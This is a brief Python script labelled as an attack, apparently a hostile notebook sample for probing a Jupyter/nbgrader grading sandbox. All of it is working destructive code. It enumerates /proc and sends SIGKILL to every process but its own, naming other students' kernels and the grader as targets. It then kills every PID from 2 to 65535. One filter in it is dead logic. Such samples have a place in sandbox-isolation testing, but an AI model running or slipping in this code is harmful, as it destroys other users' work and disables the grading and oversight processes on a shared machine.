# attack: killing other kernels and the grader itself
# A blank notebook kills every process it can find except itself: other students' kernels,
# nbgrader, the grade command; then it runs on.
import os
import signal

me = os.getpid()
killed = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (me,):
        try:
            cmdline = open(f"/proc/{name}/cmdline", "rb").read().replace(b"\0", b" ")
            if b"ipykernel" in cmdline and int(name) == me:
                continue
            os.kill(int(name), signal.SIGKILL)
            killed.append((name, cmdline[:60]))
        except Exception:
            pass
for pid in range(2, 65536):  # pids of the world outside, by number
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except Exception:
            pass
print("killed", killed)
